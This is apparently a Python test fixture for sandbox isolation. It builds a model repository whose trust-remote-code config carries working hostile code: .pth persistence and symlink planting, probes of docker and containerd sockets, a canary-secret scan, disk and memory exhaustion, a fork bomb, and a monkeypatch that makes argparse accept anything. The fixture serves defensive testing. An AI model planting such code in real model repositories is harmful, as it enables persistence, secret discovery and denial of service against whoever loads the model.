"""A model repository whose remote code (`--trust-remote-code`) attacks whatever runs it: the config
tier's helper and `vllm serve` both load it. Which attacks, in which of the two, is written into
the code itself (`make`); what each found is printed to stderr as
`HOSTILE-REPORT {json}` (the runner's log of that process), the only way out it has.

Only ever run where the sandbox is proven active, with a scratch folder as working directory
(tests/runner/isolation/test_hostile.py checks both first)."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

REMOTE_CODE = r'''
import json, os, socket, sys, time
from transformers import Qwen3Config

CFG = json.loads(__SETTINGS__)  # transformers runs a copy of this file from its module cache
ATTACKS, HOST = CFG["driftmatrix_attacks"], CFG["driftmatrix_host"]
MAIN = getattr(sys.modules.get("__main__"), "__file__", "") or ""
IN_HELPER = MAIN.endswith("vllm_helper.py")
IN_SERVER = not IN_HELPER and any(a == "serve" for a in sys.argv) or "EngineCore" in " ".join(sys.argv)


def report(**found):  # to fd 2 itself: the helper catches sys.stderr while it answers
    os.write(2, ("HOSTILE-REPORT " + json.dumps({"pid": os.getpid(), "helper": IN_HELPER, **found}) + "\n").encode())


def writable_places():
    """Every folder this process might write: its own, the runner's (given by the test), the caches."""
    places = {"/", "/tmp", "/dev/shm", os.environ.get("HOME", "/"), os.getcwd(), os.path.dirname(__file__),
              os.environ.get("VLLM_CACHE_ROOT", "/tmp"), os.environ.get("TORCHINDUCTOR_CACHE_DIR", "/tmp"),
              "/tmp/torchinductor_sandbox", sys.prefix, *HOST["folders"]}
    for p in list(sys.path):
        if p.endswith("site-packages"):
            places.add(p)
    return sorted(places)


def plant():
    planted = []
    for folder in writable_places():
        for name, make in (("dm-planted-link", lambda p: os.symlink(HOST["home"], p)),
                           ("dm-planted.pth", lambda p: open(p, "w").write("import os; open('/tmp/DM-PWNED', 'w')\n")),
                           ("logs", lambda p: os.symlink(HOST["home"], p))):
            path = os.path.join(folder, name)
            try:
                make(path)
                planted.append(path)
            except OSError:
                pass
    report(attack="plant", planted=planted)


def sockets():
    reached = []
    for path in [*HOST["sockets"], "/var/run/docker.sock", "/run/docker.sock", "/run/dbus/system_bus_socket",
                 "/run/containerd/containerd.sock"]:
        s = socket.socket(socket.AF_UNIX)
        try:
            s.connect(path)
            reached.append(path)
        except OSError:
            pass
        finally:
            s.close()
    for name in HOST["abstract"]:
        s = socket.socket(socket.AF_UNIX)
        try:
            s.connect("\0" + name)
            reached.append("@" + name)
        except OSError:
            pass
        finally:
            s.close()
    try:
        socket.create_connection(("127.0.0.1", HOST["port"]), timeout=3).close()
        reached.append(f"127.0.0.1:{HOST['port']}")
    except OSError:
        pass
    secrets = [k for k, v in os.environ.items() if any(c in v for c in HOST["canaries"])]
    home = os.path.exists(HOST["home_secret"])
    report(attack="sockets", reached=reached, secrets=secrets, home_secret_visible=home,
           proc=sorted(p for p in os.listdir("/proc") if p.isdigit()), init_fds=init_fds(),
           root_only=[p for p in HOST.get("root_only", []) if os.path.exists(p)])


def init_fds():
    """The sandbox's init, wherever this process can see it: each visible process started with a
    `--status-fd N` that still holds N, and the descriptors it lists (the runner's pipe, the relay)."""
    found = {}
    for pid in (p for p in os.listdir("/proc") if p.isdigit()):
        try:
            args = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
            if b"--status-fd" in args and args[args.index(b"--status-fd") + 1].decode() in os.listdir(f"/proc/{pid}/fd"):
                found[pid] = os.listdir(f"/proc/{pid}/fd")
        except (OSError, ValueError, IndexError):
            pass
    return found


def disk():
    """The review's payload in the compile cache: 500 MiB reserved without a size (fallocate with
    FALLOC_FL_KEEP_SIZE: no file-size limit applies) and 20,000 folders, then it waits to be kept."""
    import ctypes
    cache = os.environ.get("VLLM_CACHE_ROOT", "/tmp/vllm-cache")
    os.makedirs(cache, exist_ok=True)
    libc = ctypes.CDLL(None, use_errno=True)
    libc.fallocate.argtypes = [ctypes.c_int, ctypes.c_int, ctypes.c_longlong, ctypes.c_longlong]
    fd = os.open(os.path.join(cache, "dm-reserved"), os.O_CREAT | os.O_WRONLY)
    reserved = libc.fallocate(fd, 1, 0, 500 * 2**20) == 0
    made = 0
    for i in range(20000):
        try:
            os.mkdir(os.path.join(cache, f"dm-dir-{i}"))
            made += 1
        except OSError:
            break
    report(attack="disk", reserved=reserved, folders=made)
    time.sleep(3600)


def big_file():
    try:
        with open("/tmp/dm-big", "wb") as fh:
            for _ in range(HOST["file_mib"] + 16):
                fh.write(b"x" * 2**20)
        report(attack="fsize", written=True)
    except OSError as err:
        report(attack="fsize", written=False, error=str(err))
    try:
        os.remove("/tmp/dm-big")
    except OSError:
        pass


def memory():
    hog = []
    while True:
        hog.append(bytearray(64 * 2**20))


def fork_bomb():
    """A light bomb (a fresh interpreter without vLLM forks fast), and this process waits on it."""
    import subprocess
    bomb = "import os, time\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        time.sleep(0.01)\n"
    subprocess.Popen([sys.executable, "-S", "-c", bomb]).wait()


def half_line():
    proto = getattr(sys.modules.get("__main__"), "PROTO", None)
    if proto is not None:
        proto.write('{"id": 1, "ok": tr')
        proto.flush()
        time.sleep(3600)


def change_verdicts():
    """Make every later command of this helper pass: vLLM's own parser accepts anything."""
    import argparse
    argparse.ArgumentParser.error = lambda self, message: None
    import vllm.utils.argparse_utils as au
    original = au.FlexibleArgumentParser.parse_args
    def lenient(self, args=None, namespace=None):
        args = [a for a in (args or []) if not a.startswith("--no-such")]
        return original(self, args, namespace)
    au.FlexibleArgumentParser.parse_args = lenient
    report(attack="verdict", patched=True)


def marker():
    """Leave a file in the folder the test names: proof the code ran, nothing more (the one payload that
    may be given to a run without a sandbox, where it must never run)."""
    path = os.path.join(HOST["marker_dir"], f"ran-{'helper' if IN_HELPER else 'server'}-{os.getpid()}")
    with open(path, "w") as fh:
        fh.write(" ".join(sys.argv))
    report(attack="marker", path=path)


ACTIONS = {"marker": marker, "disk": disk, "plant": plant, "sockets": sockets, "fsize": big_file, "memory": memory, "fork": fork_bomb,
           "halfline": half_line, "verdict": change_verdicts}
WHERE = "helper" if IN_HELPER else "server" if IN_SERVER else None
if WHERE and not os.environ.get("DM_HOSTILE_DONE"):
    os.environ["DM_HOSTILE_DONE"] = "1"  # once per process (the config is loaded more than once)
    for name in ATTACKS.get(WHERE, []):
        ACTIONS[name]()


class HostileConfig(Qwen3Config):
    model_type = "qwen3"
'''


def make(twin: Path, dest: Path, attacks: dict[str, list[str]], host: dict) -> Path:
    """A copy of the tiny twin `twin` at `dest` whose remote code runs `attacks["helper"]` in the
    parse/config helper and `attacks["server"]` in `vllm serve`; `host` tells it the runner's
    folders, sockets, ports and canaries to go after."""
    shutil.copytree(twin, dest)
    settings = {"driftmatrix_attacks": attacks, "driftmatrix_host": host}
    (dest / "configuration_hostile.py").write_text(REMOTE_CODE.replace("__SETTINGS__", repr(json.dumps(settings))))
    config = json.loads((dest / "config.json").read_text())
    config["auto_map"] = {"AutoConfig": "configuration_hostile.HostileConfig"}
    (dest / "config.json").write_text(json.dumps(config))
    return dest


def reports(text: str) -> list[dict]:
    found = []
    for line in text.splitlines():
        _, marker, rest = line.partition("HOSTILE-REPORT ")
        if marker:
            try:
                found.append(json.loads(rest))
            except ValueError:
                pass
    return found
